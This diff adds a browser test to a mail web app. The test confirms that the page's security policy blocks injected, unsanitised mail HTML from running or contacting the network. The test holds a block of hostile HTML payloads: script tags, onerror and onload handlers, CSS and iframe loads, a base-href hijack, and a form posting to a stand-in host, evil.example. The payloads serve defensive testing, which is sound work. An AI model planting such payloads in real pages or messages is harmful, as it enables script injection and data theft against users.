@@ -106,6 +106,30 @@ test('a message asks nothing of the internet', async () => {
   await page.context().close()
 })
 
+/** What mail might hold, were it not cleaned: each part tells the world, or the page, when it runs. */
+const unclean = `<script>window.ran = true</script><img src="x" onerror="window.ran = true">
+  <svg onload="window.ran = true"></svg><style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>
+  <p style="background: url(https://evil.example/c)">x</p><iframe src="https://evil.example/d"></iframe>
+  <object data="https://evil.example/e"></object><img src="https://evil.example/f" srcset="https://evil.example/g 1x">
+  <link rel="stylesheet" href="https://evil.example/h"><script src="https://evil.example/i.js"></script>
+  <video poster="https://evil.example/j" src="https://evil.example/k" autoplay></video><base href="https://evil.example/">
+  <form id="stolen" action="https://evil.example/l"><input name="a" value="b"></form>`
+
+test('were mail not cleaned, the policy of the page lets nothing of it run, fetch or post', async () => {
+  browser.spoil = (html) => html.replace('</article>', `${unclean}</article>`)
+  const page = await browser.visit(stage.person, offer())
+  browser.spoil = (html) => html
+  await page.locator('#stolen').waitFor({ state: 'attached' })
+  expect(await page.evaluate('[window.ran, document.baseURI]')).toEqual([undefined, page.url()])
+  const refused = await page.evaluate(`new Promise((tell) => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => tell(effectiveDirective))
+    document.querySelector('#stolen').submit()
+  })`)
+  expect(refused).toBe('form-action')
+  expect(browser.elsewhere).toEqual([])
+  await page.context().close()
+})
+
 test('the page says how the person was signed in, when asked', async () => {
   const page = await browser.visit(stage.person, '/owa/')
   expect(await page.getByText('Microsoft Entra ID, OpenID Connect').isVisible()).toBe(false)
